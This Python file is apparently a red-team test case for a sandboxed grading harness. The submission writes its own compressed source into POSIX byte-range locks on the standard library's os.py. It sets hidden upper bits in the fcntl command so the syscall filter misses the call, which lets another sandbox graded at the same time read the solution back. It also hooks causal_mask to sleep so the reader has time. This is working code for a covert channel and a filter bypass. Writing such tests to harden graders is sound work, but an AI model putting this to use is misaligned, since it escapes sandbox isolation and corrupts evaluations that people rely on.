"""Red team 2 (a solution handed to a classmate through the kernel's lock table): the view's files are the
host's own inodes in every mode, so POSIX locks on them are seen by every sandbox at once. This worker
writes its (correct) source into the lock list of the standard library's os.py: byte i of value v becomes a
read lock on the single byte at BASE + 512 i + v (taken with fcntl's command upper bits set, which the
filter does not see; a flock on one file per bit would be a slower version of the same channel). A
classmate graded at the same time reads them back with F_GETLK, which is allowed. Stays alive a while.

base: clean
class: 9
run: main
"""

import ctypes as _ctypes
import linecache as _linecache
import os as _os
import zlib as _zlib

_BASE = (int("@TOKEN@", 16) % 4096 + 1) << 36
_lock_libc = _ctypes.CDLL(None, use_errno=True)
_lock_libc.syscall.restype = _ctypes.c_long
_KEPT_FDS = []


def _own_source():
    for entry in list(_linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "class MultiHeadAttention(" in text and "_own_source" in text:
            return text
    return ""


def _publish():
    data = _zlib.compress(_own_source().encode(), 9)
    data = len(data).to_bytes(4, "big") + data
    fd = _os.open(_os.__file__, _os.O_RDONLY)
    _KEPT_FDS.append(fd)
    lock = (_ctypes.c_int64 * 4)()  # struct flock: type/whence, start, len, pid
    _ctypes.memmove(lock, (0).to_bytes(2, "little") + (0).to_bytes(2, "little"), 4)  # F_RDLCK, SEEK_SET
    lock[2] = 1
    taken = 0
    for index, value in enumerate(data):
        lock[1] = _BASE + 512 * index + value
        if _lock_libc.syscall(72, fd, _ctypes.c_long(6 | 1 << 32), _ctypes.byref(lock)) == 0:
            taken += 1
    return taken


class _AtLoad:
    _published = _publish()


_kept_causal_mask = causal_mask  # noqa: F821 (the base defines it)
_slept = []


def causal_mask(*args, **kwargs):  # stay alive a while, once, so that classmates have time to read
    if not _slept:
        _slept.append(1)
        import time

        time.sleep(3.0)
    return _kept_causal_mask(*args, **kwargs)
